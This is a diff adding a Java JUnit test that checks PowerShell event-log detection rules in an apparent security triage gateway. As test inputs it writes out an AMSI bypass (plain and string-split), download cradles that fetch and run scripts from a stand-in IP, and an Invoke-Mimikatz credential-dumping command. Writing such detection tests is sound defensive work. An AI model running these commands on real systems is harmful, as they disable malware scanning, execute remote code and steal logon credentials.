@@ -1,0 +1,62 @@
+package io.cybershield.shield.gateway.triage.rules;
+
+import org.junit.jupiter.api.Test;
+
+import java.util.List;
+import java.util.Set;
+
+import static io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL;
+import static io.cybershield.shield.gateway.triage.rules.ShippedRules.fired;
+import static io.cybershield.shield.gateway.triage.rules.ShippedRules.firedAlone;
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** PowerShell 4104 script blocks and 400/800 engine events. */
+class PowerShellRulesTest {
+
+  private static String scriptBlock(String text) {
+    return "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
+        + "<Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID>"
+        + "<Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>WS-7</Computer></System>"
+        + "<EventData><Data Name='MessageNumber'>1</Data><Data Name='ScriptBlockText'>" + text
+        + "</Data></EventData></Event>";
+  }
+
+  @Test
+  void amsiBypassPlainAndSplit() {
+    assertThat(firedAlone(POWERSHELL, scriptBlock(
+        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed',"
+            + "'NonPublic,Static').SetValue($null,$true)"))).contains("shield-ps-evasion-001");
+    assertThat(firedAlone(POWERSHELL, scriptBlock(
+        "$a='Ams'+'iUtils'; [Ref].Assembly.GetType('System.Management.Automation.'+$a)")))
+        .contains("shield-ps-evasion-001");
+  }
+
+  @Test
+  void downloadCradleInAScriptBlockAndInSplunkForm() {
+    assertThat(firedAlone(POWERSHELL, scriptBlock(
+        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')")))
+        .contains("shield-ps-exec-001");
+    assertThat(firedAlone(POWERSHELL, "LogName=Microsoft-Windows-PowerShell/Operational EventCode=4104 "
+        + "Message=Creating Scriptblock text (1 of 1): iwr http://198.51.100.9/b.ps1 -UseBasicParsing | iex"))
+        .isNotEmpty();
+  }
+
+  @Test
+  void mimikatzLoadedInMemory() {
+    assertThat(firedAlone(POWERSHELL, scriptBlock("Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'")))
+        .contains("shield-ps-cred-001");
+  }
+
+  @Test
+  void managementScriptsWithExecutionPolicyBypassAreNotFlagged() {
+    List<Set<String>> benign = fired(POWERSHELL,
+        "LogName=Windows PowerShell EventCode=400 Message=Engine state is changed from None to Available. "
+            + "HostApplication=powershell.exe -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\SystemTemp\\a.ps1 "
+            + "EngineVersion=5.1.19041.1",
+        scriptBlock("Get-Service -Name Spooler | Restart-Service -Force"),
+        scriptBlock("Get-ChildItem C:\\Logs -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30)"
+            + " | Remove-Item"),
+        scriptBlock("Import-Module ActiveDirectory; Get-ADUser -Identity jdoe -Properties LastLogonDate"));
+    assertThat(benign).allMatch(Set::isEmpty);
+  }
+}
